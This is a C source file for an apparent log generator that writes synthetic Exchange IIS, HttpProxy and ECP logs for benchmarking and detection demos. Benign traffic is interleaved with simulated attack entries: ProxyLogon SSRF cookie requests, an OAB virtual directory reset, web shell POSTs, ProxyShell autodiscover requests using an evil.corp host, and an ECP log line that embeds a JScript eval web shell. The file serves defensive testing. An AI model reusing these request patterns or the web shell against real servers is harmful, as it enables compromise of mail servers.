/* SPDX-License-Identifier: Apache-2.0
 *
 * Exchange server log generator: IIS W3C logs (u_ex*.log, the Exchange
 * field set plus cs(Cookie)) and HttpProxy CSV logs with ordinary OWA, ECP,
 * EWS, MAPI, ActiveSync and Autodiscover traffic, and — in the demo — a
 * ProxyLogon chain from one address hidden in it (probe, SSRF cookie, OAB
 * virtual directory reset, web shell POSTs) plus a ProxyShell attempt.
 *
 *   kensa-gen exchange --out FILE [--size 1G | --records N] [--attack] [--seed S]
 *
 * writes one IIS log of about that size (bench/exchange.sh uses >= 1 GB);
 * the demo writes build/demo/exchange/. Deterministic for a seed.
 */
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <time.h>
#include "gen.h"

#define T0 1614736800 /* 2021-03-03T02:00:00Z */

static const char iis_header[] =
    "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n"
    "#Date: 2021-03-03 02:00:00\r\n"
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
    "cs(User-Agent) cs(Referer) cs(Cookie) sc-status sc-substatus sc-win32-status time-taken\r\n";

typedef struct req {
    const char *method, *stem, *query; /* query "-" = none */
    bool auth;                         /* carries a user name */
    const char *status;
} req;

/* Everyday traffic of an Exchange front end, weighted by repetition. */
static const req benign[] = {
    {"POST", "/mapi/emsmdb/", "MailboxId=%s@contoso.com", true, "200"},
    {"POST", "/mapi/emsmdb/", "MailboxId=%s@contoso.com", true, "200"},
    {"POST", "/mapi/nspi/", "MailboxId=%s@contoso.com", true, "200"},
    {"POST", "/EWS/Exchange.asmx", "-", true, "200"},
    {"POST", "/Microsoft-Server-ActiveSync/default.eas", "Cmd=Sync&User=%s&DeviceId=A1B2&DeviceType=iPhone", true, "200"},
    {"POST", "/Microsoft-Server-ActiveSync/default.eas", "Cmd=Ping&User=%s&DeviceId=A1B2&DeviceType=iPhone", true, "200"},
    {"GET", "/owa/", "-", false, "302"},
    {"GET", "/owa/auth/logon.aspx", "url=https%%3a%%2f%%2fmail.contoso.com%%2fowa%%2f&reason=0", false, "200"},
    {"POST", "/owa/auth.owa", "-", false, "302"},
    {"GET", "/owa/auth/15.1.2176/themes/resources/segoeui-regular.ttf", "-", false, "200"},
    {"POST", "/owa/service.svc", "action=GetItem&EP=1&ID=-40&AC=1", true, "200"},
    {"POST", "/owa/service.svc", "action=FindItem&EP=1&ID=-41&AC=1", true, "200"},
    {"GET", "/ecp/", "-", true, "200"},
    {"POST", "/ecp/DDI/DDIService.svc/GetList", "schema=MailboxService&msExchEcpCanary=Zq1", true, "200"},
    {"POST", "/autodiscover/autodiscover.xml", "-", true, "200"},
    {"GET", "/autodiscover/autodiscover.json", "Email=%s%%40contoso.com&Protocol=ActiveSync&RedirectCount=1", false, "200"},
    {"GET", "/OAB/3f0e4bd7-11d2-4c1f-a4b2-4cf5c1b7e0a1/oab.xml", "-", true, "200"},
    {"RPC_OUT_DATA", "/rpc/rpcproxy.dll", "mail.contoso.com:6001", true, "200"},
};

static const char *const users[] = {"alice", "bob", "carol", "dave", "erin", "frank", "grace",
                                    "heidi", "ivan", "judy"};
static const char *const agents[] = {
    "Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.5095;+Pro)",
    "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88.0.4324.190+Safari/537.36",
    "Apple-iPhone12C1/1802.92", "ExchangeServicesClient/15.01.2176.002",
    "Mozilla/4.0+(compatible;+MSIE+7.0;+Windows+NT+10.0;+MSEXCHMON;+ACTIVEMONITORING)"};

/* W3C "YYYY-MM-DD HH:MM:SS" from the RFC 3339 form gen_time writes. */
static void ts(int64_t t, char *buf, size_t cap)
{
    char iso[64];
    gen_time(t, iso, sizeof iso);
    if (strlen(iso) >= 19) {
        iso[10] = ' ';
        iso[19] = 0;
    }
    snprintf(buf, cap, "%s", iso);
}

/* One benign request line; returns bytes written. */
static int benign_line(char *out, size_t cap, gen_rng *r, int64_t t)
{
    const req *q = &benign[gen_below(r, KS_GEN_ARRAY(benign))];
    const char *u = users[gen_below(r, KS_GEN_ARRAY(users))];
    char when[32], query[160], user[48], cookie[128];
    ts(t, when, sizeof when);
    snprintf(query, sizeof query, q->query, u);
    if (q->auth)
        snprintf(user, sizeof user, "CONTOSO\\%s", u);
    else
        snprintf(user, sizeof user, "-");
    /* One draw a statement, in a fixed order: C leaves a call's argument
     * order open (gcc right to left, clang left to right). */
    if (gen_below(r, 3) == 0) {
        unsigned long long canary = gen_next(r) & 0xffffffff, client = gen_next(r);
        snprintf(cookie, sizeof cookie, "ClientId=%016llX;+X-OWA-CANARY=%08llx;+PrivateComputer=true", client,
                 canary);
    } else {
        snprintf(cookie, sizeof cookie, "-");
    }
    unsigned ms = (unsigned)(3 + gen_below(r, 400));
    const char *agent = agents[gen_below(r, KS_GEN_ARRAY(agents))];
    unsigned host = (unsigned)(10 + gen_below(r, 200)), net = (unsigned)gen_below(r, 8);
    return snprintf(out, cap, "%s 10.0.0.5 %s %s %s 443 %s 10.1.%u.%u %s - %s %s 0 0 %u\r\n", when,
                    q->method, q->stem, query, user, net, host, agent, cookie, q->status, ms);
}

/* The ProxyLogon chain of the demo, as IIS lines (attacker 203.0.113.9). */
static const char *const chain_lines[] = {
    "GET /ecp/y.js - 443 - 203.0.113.9 python-requests/2.25.1 - X-AnonResource=true;+X-AnonResource-Backend=localhost/ecp/default.flt?~3;+X-BEResource=localhost/owa/auth/logon.aspx?~3; 200 0 0 31",
    "POST /ecp/proxyLogon.ecp - 443 - 203.0.113.9 python-requests/2.25.1 - X-BEResource=Administrator@EXCH01.contoso.local:444/ecp/proxyLogon.ecp?a=~1942062522; 241 0 0 80",
    "POST /ecp/DDI/DDIService.svc/SetObject schema=OABVirtualDirectory&msExchEcpCanary=xkKd0 443 - 203.0.113.9 python-requests/2.25.1 - X-BEResource=Administrator@EXCH01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&a=~1942062522; 200 0 0 120",
    "POST /ecp/DDI/DDIService.svc/SetObject schema=ResetOABVirtualDirectory&msExchEcpCanary=xkKd0 443 - 203.0.113.9 python-requests/2.25.1 - X-BEResource=Administrator@EXCH01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&a=~1942062522; 200 0 0 980",
    "POST /aspnet_client/OutlookEN.aspx - 443 - 203.0.113.9 Mozilla/5.0+(compatible;+MSIE+9.0) - - 200 0 0 15",
    "POST /aspnet_client/OutlookEN.aspx - 443 - 203.0.113.9 Mozilla/5.0+(compatible;+MSIE+9.0) - - 200 0 0 12",
    "POST /aspnet_client/OutlookEN.aspx - 443 - 203.0.113.9 Mozilla/5.0+(compatible;+MSIE+9.0) - - 200 0 0 40",
};
static const int chain_offsets[] = {0, 3, 6, 9, 70, 75, 300}; /* seconds after the start */

static const char *const proxyshell_lines[] = {
    "GET /autodiscover/autodiscover.json @evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp 443 - 198.51.100.23 Python-urllib/3.8 - - 200 0 0 40",
    "POST /autodiscover/autodiscover.json @evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z&Email=autodiscover/autodiscover.json%3F@evil.corp 443 - 198.51.100.23 Python-urllib/3.8 - - 200 0 0 500",
};

typedef struct iis_opts {
    uint64_t records;     /* benign lines */
    uint64_t bytes;       /* stop after about this many bytes (0 = records) */
    bool attack;
    uint64_t seed;
} iis_opts;

static int write_iis(FILE *fp, const iis_opts *o, uint64_t *written)
{
    gen_rng r = {o->seed ? o->seed : 0x9e3779b97f4a7c15ull};
    size_t cap = 1 << 20, used = 0;
    char *buf = malloc(cap);
    uint64_t n = 0, total = 0;
    int64_t t = T0;
    size_t next_attack = 0, next_ps = 0;
    int64_t attack_at = T0 + 1200, ps_at = T0 + 2400;
    if (!buf)
        return -1;
    used = (size_t)snprintf(buf, cap, "%s", iis_header);
    for (;;) {
        if (o->bytes ? total + used >= o->bytes : n >= o->records)
            break;
        if (used > cap - 4096) {
            if (fwrite(buf, 1, used, fp) != used)
                goto fail;
            total += used;
            used = 0;
        }
        /* About 4 requests a second: a small server's day fits 350k lines. */
        t += gen_below(&r, 4) == 0;
        if (o->attack && next_attack < KS_GEN_ARRAY(chain_lines) &&
            t >= attack_at + chain_offsets[next_attack]) {
            char when[32];
            ts(t, when, sizeof when);
            used += (size_t)snprintf(buf + used, cap - used, "%s 10.0.0.5 %s\r\n", when,
                                     chain_lines[next_attack++]);
            continue;
        }
        if (o->attack && next_ps < KS_GEN_ARRAY(proxyshell_lines) && t >= ps_at + (int64_t)next_ps * 5) {
            char when[32];
            ts(t, when, sizeof when);
            used += (size_t)snprintf(buf + used, cap - used, "%s 10.0.0.5 %s\r\n", when,
                                     proxyshell_lines[next_ps++]);
            continue;
        }
        /* An IIS restart writes a new header block now and then. */
        if (n && n % 2000000 == 0)
            used += (size_t)snprintf(buf + used, cap - used, "%s", iis_header);
        used += (size_t)benign_line(buf + used, cap - used, &r, t);
        n++;
    }
    if (used && fwrite(buf, 1, used, fp) != used)
        goto fail;
    total += used;
    free(buf);
    if (written)
        *written = total;
    return 0;
fail:
    free(buf);
    return -1;
}

static const char *const proxy_fields =
    "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,"
    "Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,"
    "AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,"
    "HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,"
    "RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,"
    "ResponseBytes";

static void proxy_row(FILE *fp, int64_t t, int ms, const char *stem, const char *user,
                      const char *anchor, const char *ip, const char *method, const char *status)
{
    char when[32];
    ts(t, when, sizeof when);
    when[10] = 'T';
    fprintf(fp, "%s.%03dZ,%08x,15,1,2176,2,,Ecp,mail.contoso.com,%s,,%s,%s,%s,,%s,"
                "python-requests/2.25.1,%s,EXCH01,%s,%s,,%s,Proxy,exch01.contoso.local,"
                "15.01.2176.002,,,,,,120,800\r\n",
            when, ms, (unsigned)(t * 31 + ms), stem, user[0] ? "Negotiate" : "",
            user[0] ? "true" : "false", user, anchor, ip, status, status, method);
}

static int write_proxy(const char *dir)
{
    FILE *fp = gen_open(dir, "HttpProxy_2021030303-1.LOG");
    if (!fp)
        return -1;
    fprintf(fp, "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n"
                "#Log-type: HttpProxy Logs\r\n#Date: 2021-03-03T03:00:00.000Z\r\n#Fields: %s\r\n",
            proxy_fields);
    gen_rng r = {42};
    for (int i = 0; i < 200; i++) {
        const char *u = users[gen_below(&r, KS_GEN_ARRAY(users))];
        char user[48], anchor[80], ip[24];
        snprintf(user, sizeof user, "CONTOSO\\%s", u);
        snprintf(anchor, sizeof anchor, "Smtp~%s@contoso.com", u);
        unsigned host = (unsigned)(10 + gen_below(&r, 200)), net = (unsigned)gen_below(&r, 8); /* gcc's order */
        snprintf(ip, sizeof ip, "10.1.%u.%u", net, host);
        proxy_row(fp, T0 + 600 + i * 17, (int)gen_below(&r, 1000), "/ecp/", user, anchor, ip,
                  "GET", "200");
        if (i == 100) {
            proxy_row(fp, T0 + 1200, 101, "/ecp/y.js", "",
                      "ServerInfo~a]@EXCH01.contoso.local:444/autodiscover/autodiscover.xml?#",
                      "203.0.113.9", "GET", "200");
            proxy_row(fp, T0 + 1203, 562, "/ecp/proxyLogon.ecp", "",
                      "ServerInfo~Administrator@EXCH01.contoso.local:444/ecp/proxyLogon.ecp?a=~1942062522",
                      "203.0.113.9", "POST", "241");
        }
    }
    return fclose(fp) == 0 ? 0 : -1;
}

int gen_exchange_demo(const char *dir)
{
    char sub[4096];
    /* The files demo drops the web shell this chain uses; give it the
     * chain's write time so the timeline reads in order (mtime = when the
     * OAB reset wrote it, 60 s after the SSRF). */
    snprintf(sub, sizeof sub, "%s/inetpub/wwwroot/aspnet_client/OutlookEN.aspx", dir);
    struct timespec tv[2] = {{T0 + 1200 + 60, 0}, {T0 + 1200 + 60, 0}};
    utimensat(AT_FDCWD, sub, tv, 0); /* absent when run alone: nothing to do */
    snprintf(sub, sizeof sub, "%s/exchange/W3SVC1", dir);
    FILE *fp = gen_open(sub, "u_ex210303.log");
    iis_opts o = {.records = 20000, .attack = true, .seed = 7};
    if (!fp || write_iis(fp, &o, NULL) != 0 || fclose(fp) != 0)
        return -1;
    snprintf(sub, sizeof sub, "%s/exchange/HttpProxy/Ecp", dir);
    if (write_proxy(sub) != 0)
        return -1;
    snprintf(sub, sizeof sub, "%s/exchange/ECP/Server", dir);
    fp = gen_open(sub, "ECPServer2021030303-1.LOG");
    if (!fp)
        return -1;
    fprintf(fp, "#Software: Microsoft Exchange Server\r\n#Version: 15.0.0.0\r\n#Log-type: ECP Server Log\r\n"
                "#Fields: TimeStamp,ServerName,EventId,EventData\r\n"
                "2021-03-03T02:20:07.003Z,EXCH01,ServerLog,\"S:TIME=3781;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"exec_code\"\"],\"\"unsafe\"\");}</script>'.Identity='OAB (Default Web Site)'\"\r\n");
    return fclose(fp) == 0 ? 0 : -1;
}

int gen_exchange_run(int argc, char **argv)
{
    const char *out = NULL;
    iis_opts o = {.records = 100000};
    for (int i = 1; i < argc; i++) {
        if (!strcmp(argv[i], "--out") && i + 1 < argc) {
            out = argv[++i];
        } else if (!strcmp(argv[i], "--records") && i + 1 < argc) {
            o.records = strtoull(argv[++i], NULL, 10);
        } else if (!strcmp(argv[i], "--size") && i + 1 < argc) {
            char *end;
            double v = strtod(argv[++i], &end);
            double mul = *end == 'G' || *end == 'g' ? 1e9 : *end == 'M' || *end == 'm' ? 1e6 : 1;
            o.bytes = (uint64_t)(v * mul);
        } else if (!strcmp(argv[i], "--attack")) {
            o.attack = true;
        } else if (!strcmp(argv[i], "--seed") && i + 1 < argc) {
            o.seed = strtoull(argv[++i], NULL, 10);
        } else {
            fprintf(stderr, "kensa-gen exchange: unknown argument '%s'\n", argv[i]);
            return 2;
        }
    }
    if (!out) {
        fprintf(stderr, "usage: kensa-gen exchange --out FILE [--size 1G | --records N] [--attack] [--seed S]\n");
        return 2;
    }
    FILE *fp = strcmp(out, "-") ? fopen(out, "wb") : stdout;
    uint64_t n = 0;
    if (!fp) {
        perror(out);
        return 1;
    }
    int rc = write_iis(fp, &o, &n);
    if (fp != stdout && fclose(fp) != 0)
        rc = -1;
    if (rc == 0)
        fprintf(stderr, "wrote %llu bytes of IIS log to %s\n", (unsigned long long)n, out);
    return rc == 0 ? 0 : 1;
}
